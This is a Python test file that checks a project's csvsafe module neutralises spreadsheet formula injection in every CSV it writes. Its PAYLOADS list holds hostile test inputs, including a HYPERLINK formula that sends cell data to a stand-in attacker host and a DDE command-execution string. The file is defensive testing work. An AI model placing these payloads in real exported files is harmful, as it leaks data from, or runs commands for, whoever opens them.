"""Every CSV the project writes defuses spreadsheet formulas, and only csvsafe writes CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest

from dadkhah.core import csvsafe
from dadkhah.core.estimation.table import CountsTable
from dadkhah.core.synth.writers import write_csv

#: The payloads of OWASP's "CSV Injection" page and the issue that found the hole.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=2+2",
]
PACKAGE = Path(__file__).resolve().parents[2] / "dadkhah"


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_defused(cells: list[str], payload: str) -> None:
    assert all(not c or c[0] not in "=+-@\t\r" for c in cells), cells
    assert "'" + payload in cells, cells


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_cell_that_starts_a_formula_gets_a_leading_apostrophe(payload: str) -> None:
    assert csvsafe.defuse_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-2, 3.5, None, "", "Ali", "a=b", "'=x already quoted"])
def test_numbers_none_and_plain_text_are_written_unchanged(value: object) -> None:
    assert csvsafe.defuse_cell(value) == value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_safe_writer_and_dict_writer_defuse_every_cell(payload: str) -> None:
    buf = io.StringIO(newline="")
    csvsafe.writer(buf).writerows([[payload, 1], ["x", payload]])
    assert cells_of(buf.getvalue()).count("'" + payload) == 2
    buf = io.StringIO(newline="")
    w = csvsafe.dict_writer(buf, [payload, "b"])
    w.writeheader()
    w.writerow({payload: payload, "b": -1})
    assert cells_of(buf.getvalue()) == ["'" + payload, "b", "'" + payload, "-1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_synthetic_list_writer_defuses_formulas(payload: str, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    write_csv(path, ["record_id", "name"], [[("1", payload), (payload, "Ali")]])
    with path.open(encoding="utf-8", newline="") as fh:
        assert_defused(cells_of(fh.read()), payload)


# The counts table ends lines with LF only, so Python's csv module leaves a lone CR unquoted
# and no reader gets it back: a list name holding a CR is not a table anyone can write.
@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\r" not in p])
def test_the_counts_table_csv_defuses_list_names(payload: str) -> None:
    table = CountsTable.from_arrays(
        [payload, "b"], np.array([[1, 0], [0, 1], [1, 1]]), np.array([5, 6, 7])
    )
    assert_defused(cells_of(table.to_csv()), payload)


def test_no_module_but_csvsafe_makes_a_csv_writer() -> None:
    direct = re.compile(
        r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import[^\n]*\b(writer|DictWriter)\b"
    )
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "csvsafe.py" and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"write CSV through dadkhah.core.csvsafe, not csv.writer: {offenders}"
    assert not any(
        "to_csv(" in p.read_text(encoding="utf-8") and "pandas" in p.read_text(encoding="utf-8")
        for p in PACKAGE.rglob("*.py")
    ), "a pandas DataFrame.to_csv bypasses the safe writer; write rows through csvsafe"
